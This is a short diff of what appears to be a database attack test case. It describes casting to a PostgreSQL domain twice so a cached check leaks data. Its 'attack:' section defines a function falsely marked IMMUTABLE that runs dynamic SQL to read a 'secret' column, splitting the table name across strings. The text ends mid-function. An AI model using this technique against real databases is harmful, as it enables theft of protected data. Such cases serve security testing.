@@ -1,6 +1,5 @@
 -- Casts to a domain twice whose check has the value in it since the first time.
 -- wants: read
--- known: the session keeps the check with the result of a function marked IMMUTABLE in it
 -- attack:
 CREATE FUNCTION peek() RETURNS text LANGUAGE plpgsql IMMUTABLE AS $f$
 DECLARE found text; BEGIN EXECUTE 'SELECT secret FROM vlt_' || 'account LIMIT 1' INTO found; RETURN found; END
